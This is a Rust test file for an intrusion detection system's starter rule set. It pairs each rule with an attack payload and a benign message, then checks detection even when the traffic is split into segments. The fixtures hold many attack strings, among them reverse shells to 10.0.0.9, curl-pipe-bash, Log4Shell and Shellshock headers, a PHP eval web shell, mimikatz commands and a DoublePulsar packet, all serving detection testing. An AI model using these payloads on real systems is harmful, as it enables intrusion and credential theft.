//! The rules that come with the product: each has an attack that it stops or tells of, however it is cut, and an
//! ordinary message that it lets be.

use super::harness::*;
use crate::inspect::Judgement::{Drop, Pass};
use crate::inspect::RuleSetProgram;
use std::sync::Arc;
use weir_wire::numbers::*;

fn starter() -> Arc<RuleSetProgram> {
    program(weir_ids_rules::builtin("starter").unwrap())
}

/// An attack over TCP and an ordinary message to the same port.
pub struct Case {
    pub sid: u32,
    pub port: u16,
    pub attack: &'static [u8],
    pub ordinary: &'static [u8],
}

pub const fn case(sid: u32, port: u16, attack: &'static [u8], ordinary: &'static [u8]) -> Case {
    Case { sid, port, attack, ordinary }
}

const CASES: &[Case] = &[
    case(
        9000001,
        80,
        b"GET / HTTP/1.1\r\nHost: web\r\nUser-Agent: () { :;}; /bin/bash -c id\r\n\r\n",
        b"POST /js HTTP/1.1\r\nHost: web\r\n\r\nlet f = function() { return 1; }",
    ),
    case(
        9000002,
        8080,
        b"GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://10.0.0.9/a}\r\n\r\n",
        b"GET /?q=jndi HTTP/1.1\r\n\r\n",
    ),
    case(
        9000003,
        8080,
        b"GET /${${lower:j}${::-n}di:${lower:l}dap://10.0.0.9/a} HTTP/1.1\r\n\r\n",
        b"POST /tpl HTTP/1.1\r\n\r\n<a href=\"http://x/${user.name}/${user.id}\">",
    ),
    case(
        9000004,
        8080,
        b"POST / HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline",
        b"POST / HTTP/1.1\r\n\r\nclass=module&classLoader=1",
    ),
    case(
        9000005,
        8080,
        b"GET /a.action HTTP/1.1\r\nContent-Type: %{(#nike='multipart/form-data').(#_memberAccess=1)}\r\n\r\n",
        b"POST /a HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"a\":\"#cmd\"}",
    ),
    case(
        9000006,
        8090,
        b"GET /%24%7B%28%23a%3D%40org.apache%29.java.lang.Runtime%7D/ HTTP/1.1\r\n",
        b"GET /price?tag=%24%7Bname%7D HTTP/1.1\r\n",
    ),
    case(
        9000007,
        80,
        b"PUT /x.php HTTP/1.1\r\n\r\n<?php @eval(base64_decode($_POST['c']));?>",
        b"PUT /x.php HTTP/1.1\r\n\r\n<?php echo htmlspecialchars($_POST['c']);?>",
    ),
    case(
        9000008,
        80,
        b"POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file HTTP/1.1\r\n",
        b"GET /docs/allow_url_include?page=2 HTTP/1.1\r\n",
    ),
    case(9000009, 80, b"GET /a?f=../../../etc/passwd HTTP/1.1\r\n", b"GET /help/etc/passwd-format HTTP/1.1\r\n"),
    case(9000010, 80, b"GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n", b"GET /a%2e/b HTTP/1.1\r\n"),
    case(
        9000011,
        7001,
        b"t3 \xac\xed\x00\x05sr\x00*org.apache.commons.collections.functors.InvokerTransformer",
        b"\xac\xed\x00\x05sr\x00*org.apache.commons.collections.map.LazyMap",
    ),
    case(
        9000012,
        80,
        b"GET /i?id=1+UNION+SELECT+table_name+FROM+information_schema.tables HTTP/1.1\r\n",
        b"GET /wiki/Union_select_information_schema HTTP/1.1\r\n",
    ),
    case(
        9000013,
        80,
        b"GET /fetch?url=http://169.254.169.254/latest/meta-data HTTP/1.1\r\n",
        b"GET /latest/meta-data HTTP/1.1\r\nHost: 169.254.169.254\r\n",
    ),
    case(
        9000014,
        8080,
        b"POST /scriptText HTTP/1.1\r\nHost: ci\r\n\r\nscript=println+1",
        b"POST /build HTTP/1.1\r\n\r\ndescription=1",
    ),
    case(9000020, 4444, b"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", b"cat /dev/tcp/ is a file of bash"),
    case(
        9000021,
        80,
        b"GET /x?c=bash+-i+%3E%26%20%2Fdev%2Ftcp%2F10.0.0.9 HTTP/1.1\r\n",
        b"GET /x?c=%2Fdev%2Fnull HTTP/1.1\r\n",
    ),
    case(9000022, 80, b"GET /ping?h=;nc 10.0.0.9 4444 -e /bin/sh", b"rsync -e ssh /bin/sh host:/bin/"),
    case(
        9000023,
        80,
        b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 1234 >/tmp/f",
        b"mkfifo /tmp/log; tail -f /tmp/log | grep error",
    ),
    case(
        9000024,
        80,
        b"import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
        b"import subprocess; subprocess.run(['ls'])",
    ),
    case(
        9000025,
        80,
        b"GET /?c=curl -fsSL http://10.0.0.9/x.sh | bash -s",
        b"curl -o file http://10.0.0.9/x.sh; less file",
    ),
    case(9000026, 23, b"/bin/busybox MIRAI\r\n", b"/bin/busybox ls\r\n"),
    case(9000032, 445, DOUBLEPULSAR, b"\x00\x00\x00\x40\xff\x53\x4d\x42\x32\x00\x00\x00\x00plain transaction"),
    case(9000033, 445, b"\xfeSMB..P\0S\0E\0X\0E\0S\0V\0C\0.\0e\0x\0e\0", b"\xfeSMB..P\0S\0A\0L\0M\0.\0t\0x\0t\0"),
    case(9000034, 5985, b"privilege::debug sekurlsa::logonpasswords", b"sekurlsa log on passwords"),
    case(
        9000040,
        6379,
        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$13\r\n/root/.ssh/\r\n",
        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$9\r\nmaxmemory\r\n$1\r\n0\r\n",
    ),
    case(9000041, 6379, b"SLAVEOF 10.0.0.9 6379\r\n", b"SLAVEOF no one\r\n"),
    case(9000042, 6379, b"MODULE LOAD /tmp/exp.so\r\n", b"MODULE LIST\r\n"),
    case(9000043, 6379, b"eval 'local f = package.loadlib(\"liblua\")' 0\r\n", b"eval 'return 1' 0\r\n"),
    case(9000044, 11211, b"flush_all 0 noreply\r\n", b"get flush_all_counter\r\n"),
    case(9000046, 5432, b"Q\0\0\0\x30COPY cmd FROM PROGRAM 'id';\0", b"Q\0\0\0\x30COPY t FROM '/data/program.csv';\0"),
    case(
        9000047,
        3306,
        b"\x40\0\0\0\x03select @x into dumpfile '/usr/lib/u.so'",
        b"\x40\0\0\0\x03select dumpfile from t",
    ),
    case(
        9000048,
        1433,
        b"e\0x\0e\0c\0 \0x\0p\0_\0c\0m\0d\0s\0h\0e\0l\0l\0 \0'\0",
        b"e\0x\0e\0c\0 \0x\0p\0_\0m\0s\0v\0e\0r\0",
    ),
    case(
        9000049,
        9200,
        b"POST /_search HTTP/1.1\r\n\r\n{\"script\":\"java.lang.Runtime.getRuntime()\"}",
        b"POST /_search HTTP/1.1\r\n\r\n{\"script\":\"doc['a'].value\"}",
    ),
    case(9000060, 2375, b"POST /v1.41/containers/create HTTP/1.1\r\n", b"GET /v1.41/containers/json HTTP/1.1\r\n"),
    case(9000061, 2375, b"POST /containers/4f5e/exec HTTP/1.1\r\n", b"POST /containers/4f5e/stop HTTP/1.1\r\n"),
    case(9000062, 10250, b"POST /run/default/web-0/app HTTP/1.1\r\n", b"GET /running/pods/ HTTP/1.1\r\n"),
    case(
        9000063,
        2379,
        b"POST /v3/kv/range HTTP/1.1\r\n\r\n{\"key\":\"AA==\",\"range_end\":\"AA==\"}",
        b"POST /v3/kv/range HTTP/1.1\r\n\r\n{\"key\":\"Zm9v\"}",
    ),
    case(9000064, 2379, b"GET /v2/keys/?recursive=true HTTP/1.1\r\n", b"GET /v2/keys/a HTTP/1.1\r\n"),
    case(
        9000065,
        8088,
        b"POST /ws/v1/cluster/apps HTTP/1.1\r\n\r\n{\"am-container-spec\":{\"commands\":{\"command\":\"id\"",
        b"GET /ws/v1/cluster/apps HTTP/1.1\r\n\r\n",
    ),
    case(
        9000070,
        3333,
        b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n",
        b"{\"topic\":\"mining.news\",\"id\":1}\n",
    ),
    case(
        9000071,
        3333,
        b"{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"m/6\"}}\n",
        b"{\"id\":1,\"method\":\"login\",\"params\":{\"user\":\"a\"}}\n",
    ),
    case(9000075, 9000, b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl", b"-----BEGIN OPENSSH PUBLIC KEY-----\nb3Bl"),
    case(9000076, 9000, b"XX$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!XX", b"EICAR STANDARD ANTIVIRUS TEST FILE"),
];

/// All cases.
fn cases() -> impl Iterator<Item = &'static Case> {
    CASES.iter().chain(super::starter_paths::CASES).chain(super::starter_services::CASES)
}

/// NetBIOS header, SMB header of 32 bytes, 14 words of parameters, and the subcommand in the first setup word.
const DOUBLEPULSAR: &[u8] = b"\x00\x00\x00\x4e\xff\x53\x4d\x42\x32\x00\x00\x00\x00\x18\x07\xc0\x00\x00\x00\x00\x00\x00\x00\x00\
\x00\x00\x00\x00\x00\x08\xff\xfe\x00\x08\x41\x00\x0f\x0c\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xa6\xd9\xa4\x00\x00\
\x00\x0c\x00\x42\x00\x00\x00\x4e\x00\x01\x00\x0e\x00\x0d\x00";

/// Nothing is in the list of what went wrong.
#[track_caller]
fn nothing_wrong(wrong: Vec<String>) {
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_rule_on_tcp_fires_on_its_attack_and_not_on_the_ordinary() {
    let rules = starter();
    let mut wrong = Vec::new();
    for Case { sid, port, attack, ordinary } in cases() {
        let told = Conversation::tcp(&rules, *port).data(CLIENT, 0, attack);
        if !told.sids.contains(sid) {
            wrong.push(format!("{sid} does not fire: {:?}", told.sids));
        }
        let told = Conversation::tcp(&rules, *port).data(CLIENT, 0, ordinary);
        if (told.judgement, told.sids.len()) != (Pass, 0) {
            wrong.push(format!("{sid} has a false alarm: {:?}", told.sids));
        }
    }
    nothing_wrong(wrong);
}

#[test]
fn every_rule_on_tcp_fires_wherever_its_attack_is_cut() {
    let rules = starter();
    let mut wrong = Vec::new();
    for Case { sid, port, attack, .. } in cases() {
        for cut in 1..attack.len() {
            let mut c = Conversation::tcp(&rules, *port);
            let first = c.data(CLIENT, 0, &attack[..cut]);
            let second = c.data(CLIENT, cut as u32, &attack[cut..]);
            let in_order = first.sids.contains(sid) || second.sids.contains(sid);
            let mut c = Conversation::tcp(&rules, *port);
            let early = c.data(CLIENT, cut as u32, &attack[cut..]).judgement == Pass;
            let out_of_order = c.data(CLIENT, 0, &attack[..cut]).sids.contains(sid);
            if !(in_order && early && out_of_order) {
                wrong.push(format!("{sid} cut at {cut}: {in_order} {early} {out_of_order}"));
                break;
            }
        }
    }
    nothing_wrong(wrong);
}

#[test]
fn one_byte_at_a_time_is_no_way_around() {
    let rules = starter();
    let mut wrong = Vec::new();
    for Case { sid, port, attack, .. } in cases() {
        let mut c = Conversation::tcp(&rules, *port);
        let fired = (0..attack.len()).any(|i| c.data(CLIENT, i as u32, &attack[i..=i]).sids.contains(sid));
        if !fired {
            wrong.push(format!("{sid}"));
        }
    }
    nothing_wrong(wrong);
}

#[test]
fn eternal_blue_is_stopped_at_its_second_step() {
    let rules = starter();
    let mut c = Conversation::tcp(&rules, 445);
    c.data(CLIENT, 0, b"\0\0\0\x20\xffSMB\x33 a secondary alone").passes();
    let mut c = Conversation::tcp(&rules, 445);
    c.data(CLIENT, 0, b"\0\0\0\x20\xffSMB\xa0 first").passes();
    c.data(CLIENT, 15, b"\0\0\0\x20\xffSMB\x33 second").is(Drop, &[9000031]);
}

#[test]
fn rules_on_udp_fire_after_their_counts() {
    let rules = starter();
    let header = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00";
    let label: Vec<u8> = [b"\x3f".as_slice(), &[b'a'; 63]].concat();
    let tunnel = [header.as_slice(), &label, b"\x01t\x03net\x00\x00\x10\x00\x01"].concat();
    let null = [header.as_slice(), b"\x27", &[b'q'; 39], b"\x01t\x03net\x00\x00\x0a\x00\x01"].concat();
    let ordinary = [header.as_slice(), b"\x03www\x07example\x03org\x00\x00\x01\x00\x01"].concat();
    let stats = b"\0\0\0\0\0\x01\0\0stats\r\n";
    for (port, sid, count, payload) in
        [(53, 9000072, 20, &tunnel), (53, 9000073, 10, &null), (11211, 9000045, 1, &stats.to_vec())]
    {
        let mut c = Conversation::new(&rules, PROTOCOL_UDP, port);
        for i in 1..=count {
            let told = c.datagram(CLIENT, payload);
            assert_eq!(told.sids.contains(&sid), i == count, "{sid} at {i}");
        }
    }
    let mut c = Conversation::new(&rules, PROTOCOL_UDP, 53);
    assert!((0..50).all(|_| c.datagram(CLIENT, &ordinary).sids.is_empty()));
}

#[test]
fn many_ssh_connections_from_one_guest_are_told_of_once() {
    let rules = starter();
    let mut memory = crate::inspect::StreamMemory::new(1 << 20, 1 << 16);
    let mut fired = 0;
    for _ in 0..30 {
        let mut c = Conversation::tcp(&rules, 22);
        std::mem::swap(&mut c.memory, &mut memory);
        fired += c.data(CLIENT, 0, b"SSH-2.0-libssh_0.9\r\n").sids.len();
        std::mem::swap(&mut c.memory, &mut memory);
    }
    assert_eq!(fired, 1);
}

#[test]
fn every_rule_has_a_case() {
    let text = weir_ids_rules::builtin("starter").unwrap();
    let elsewhere = [9000030, 9000031, 9000045, 9000072, 9000073, 9000074];
    for line in text.lines().filter(|l| !l.starts_with('#') && !l.is_empty()) {
        let sid: u32 = line.split("sid:").nth(1).unwrap().split(';').next().unwrap().parse().unwrap();
        assert!(cases().any(|c| c.sid == sid) || elsewhere.contains(&sid), "{sid}");
        assert!(line.contains("msg:\"WEIR ") && line.contains("classtype:"), "{sid}");
    }
}
